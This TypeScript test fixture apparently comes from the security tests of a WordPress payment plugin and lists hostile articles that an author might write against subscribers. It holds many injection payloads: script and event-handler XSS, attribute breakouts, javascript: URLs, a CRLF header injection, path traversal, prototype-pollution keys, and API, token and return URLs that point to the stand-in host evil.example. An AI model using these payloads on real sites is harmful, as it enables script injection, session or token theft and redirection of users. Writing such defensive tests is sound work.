/** What somebody who may write articles, but no scripts, might write to get at a subscriber. */
const evil = 'https://evil.example';
const pay = 'invoice-number="7435367" product-code="CO27409" company-code="5646903690"';

/** In a shortcode that works without them. */
const attributes: readonly string[] = [
  // Servers, tokens and ways back of their own.
  `api-url="${evil}/capi"`,
  `API-URL="${evil}/capi"`,
  `api_url="${evil}/capi"`,
  `login-url="${evil}/login"`,
  `token="stolen"`,
  `token-url="${evil}/token"`,
  `token-url="/wp-json/wp/v2/users/me"`,
  `return-url="${evil}/"`,
  `return-url="//evil.example/"`,
  // A shortcode takes every other backslash away.
  `return-url="/\\\\evil.example/"`,
  `return-url="/%5Cevil.example/%0d%0aSet-Cookie:a=b"`,
  // A path of the site, unless somebody decodes it.
  `return-url="/%5Cevil.example/%22%20onfocus=ran"`,
  `return-url="javascript:ran()"`,
  `return-url="/@evil.example" error-url="${evil}" return-origins="${evil}"`,
  `operation-origins="${evil}" src="${evil}/payment" environment="test" country="se"`,
  `client-id="evil" target="_top" result-param="evil" debug="1"`,
  // Event handlers, styles, and the way out of an attribute.
  `onclick="ran()" onfocus="ran()" autofocus="1" tabindex="0"`,
  `onconnect-load="ran()" onpointerenter="ran()"`,
  `style="background:url(${evil}/style)" class="evil" id="evil" slot="evil" is="evil"`,
  `lang='en" onfocus="ran()" autofocus="'`,
  `lang="&quot;&gt;&lt;script&gt;ran()&lt;/script&gt;"`,
  `lang="en&#34; onfocus=&#34;ran()"`,
  `methods='nexi" onfocus="ran()'`,
  `methods="nexi\u00a0onfocus=ran()"`,
  `amount="1'; ran(); '"`,
  `amount="1<svg onload=ran()>"`,
  `currency="NOK\`onload=ran()"`,
  `remember="1 onfocus=ran()"`,
  `onfocus=ran() autofocus`,
  `__proto__="evil" constructor="evil"`,
];

/** With tags, for which WordPress takes a shortcode apart unless it has taken them away before. */
const tags: readonly string[] = [
  `lang='"><script>ran()</script>'`,
  `lang='"><img src=x onerror=ran()>'`,
  `"><script>ran()</script>`,
  `><img/src=x/onerror=ran()>`,
];

/** Of a payment that is at no backend of the site's. */
const sources: readonly string[] = [
  `src="${evil}/payment"`,
  `src="//evil.example/payment"`,
  `src="../../wp-json/wp/v2/users/me"`,
  `src="a/../../methods"`,
  `src="%2e%2e/methods" operation-origins="${evil}"`,
  `src="a?b" api-url="/" merchant="1"`,
];

/** In the middle of a shortcode. */
const contents: readonly string[] = [
  `<script>ran()</script>`,
  `<img src=x onerror=ran()>`,
  `<svg><script>ran()</script></svg>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<a href="javascript:ran()" id="evil">Pay</a>`,
  `</connect-pay-invoice></connect-config><connect-config api-url="${evil}"><connect-invoices product-code="CO27409">`,
  `<connect-config login-url="${evil}"><connect-invoices product-code="CO27409"></connect-invoices></connect-config>`,
  `<script type="module" src="${evil}/script.js"></script>`,
  `<form action="${evil}"><button>Pay</button></form>`,
];

const values = {
  invoiceNumber: '7435367',
  productCode: 'CO27409',
  companyCode: '5646903690',
};
/** In the comment that a block is saved as. */
const blocks: readonly object[] = [
  { apiUrl: `${evil}/capi`, 'api-url': evil, tokenUrl: `${evil}/token`, token: 'stolen' },
  { returnUrl: `${evil}/`, loginUrl: evil },
  { returnUrl: 'javascript:ran()', onclick: 'ran()', className: '"onfocus="ran()' },
  { lang: '"><script>ran()</script>' },
  { lang: { toString: 'ran()' }, methods: ['nexi" onfocus="ran()'], remember: '" onfocus="ran()' },
  { lang: 'en\u0022 onfocus=\u0022ran()', anchor: '"><img src=x onerror=ran()>' },
];

const comment = (given: object) =>
  JSON.stringify(given)
    .replaceAll('--', '\\u002d\\u002d')
    .replaceAll('<', '\\u003c')
    .replaceAll('>', '\\u003e');

/** An article and what has to be left of it. */
export interface Hostile {
  readonly content: string;
  /** The one element that is shown in spite of it; none when it is left out. */
  readonly shows?: string;
  /** Whether the plugin alone makes it harmless, also where WordPress has not cleaned it. */
  readonly byPlugin?: boolean;
}

const shows = 'connect-pay-invoice';
const shortcode = (given: string) => `[connect_pay_invoice ${pay} ${given}]`;
const ofPlugin = [
  ...attributes.map(shortcode),
  ...contents.map((given) => `[connect_pay_invoice ${pay}]${given}[/connect_pay_invoice]`),
  ...blocks.map(
    (given) => `<!-- wp:connect-elements/pay-invoice ${comment({ ...values, ...given })} /-->`,
  ),
];

/** What is no shortcode: the tags themselves, and the place that the theme's lines fill. */
const others: readonly Hostile[] = [
  { content: `[connect_config api-url="${evil}"]`, byPlugin: true },
  ...sources.map((given) => ({
    content: `[connect_vipps_payment ${given}]`,
    shows: 'connect-vipps-payment',
    byPlugin: true,
  })),
  {
    content: `<connect-config api-url="${evil}"><connect-invoices product-code="CO27409"></connect-invoices></connect-config>`,
  },
  {
    content: `<div data-connect="invoices" data-product-code="CO27409" data-api-url="${evil}" data-token-url="${evil}" data-onclick="ran()">Invoices</div>`,
    shows: 'connect-invoices',
  },
  { content: `<div data-connect="config" data-api-url="${evil}">Invoices</div>` },
  { content: `<div data-connect="__proto__" data-product-code="CO27409">Invoices</div>` },
  {
    content: `<a data-connect="pay-invoice" data-${pay.replaceAll(' ', ' data-')} data-return-url="${evil}" data-lang='"><script>ran()</script>' href="/">Pay</a>`,
    shows,
  },
];

export const hostileArticles: readonly Hostile[] = [
  ...ofPlugin.map((content) => ({ content, shows, byPlugin: true })),
  ...tags.map((given) => ({ content: shortcode(given), shows })),
  ...others,
];

/** What somebody may write who may write anything, and the harm in it. */
export const harmfulArticles: readonly { content: string; harm: string }[] = [
  { content: '<script>ran()</script>', harm: 'runs a script' },
  { content: '<img src="/none" onerror="ran()">', harm: 'runs a script' },
  { content: '<a href="/" onfocus="ran()">Pay</a>', harm: 'runs a script' },
  { content: '<p onclick="ran()">Pay</p>', harm: 'holds p onclick=ran()' },
  { content: '<a href="javascript:ran()">Pay</a>', harm: 'holds a href=javascript:ran()' },
  { content: `<form action="${evil}"><button>Pay</button></form>`, harm: 'holds form' },
  { content: `<img src="${evil}/picture.png">`, harm: `asks ${evil}/picture.png` },
  {
    content: `<connect-config api-url="${evil}/capi"></connect-config>`,
    harm: `says connect-config api-url=${evil}/capi`,
  },
  {
    content: `<connect-invoices product-code="CO27409" token="stolen"></connect-invoices>`,
    harm: 'says connect-invoices token=stolen',
  },
  {
    content: `<connect-invoices product-code="CO27409" return-url="//evil.example/"></connect-invoices>`,
    harm: 'says connect-invoices return-url=//evil.example/',
  },
];
